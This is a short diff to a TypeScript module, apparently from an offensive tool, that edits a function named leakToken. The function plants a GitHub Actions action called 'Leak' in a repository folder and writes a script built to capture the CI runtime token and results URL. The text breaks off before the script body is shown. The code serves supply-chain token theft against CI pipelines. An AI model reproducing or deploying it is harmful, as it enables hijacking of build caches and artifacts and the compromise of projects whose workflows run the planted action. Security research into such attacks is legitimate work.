@@ -18,7 +18,10 @@ export interface Loot {
 export function leakToken(folder: string, file: string): void {
   const action = join(folder, '.github', 'actions', 'leak')
   mkdirSync(action, { recursive: true })
-  writeFileSync(join(action, 'action.yml'), 'name: Leak\nruns: { using: node24, main: leak.mjs }\n')
+  writeFileSync(
+    join(action, 'action.yml'),
+    'name: Leak\ndescription: The token\nruns: { using: node24, main: leak.mjs }\n',
+  )
   const wanted = '{ url: process.env.ACTIONS_RESULTS_URL, token: process.env.ACTIONS_RUNTIME_TOKEN }'
   writeFileSync(
     join(action, 'leak.mjs'),
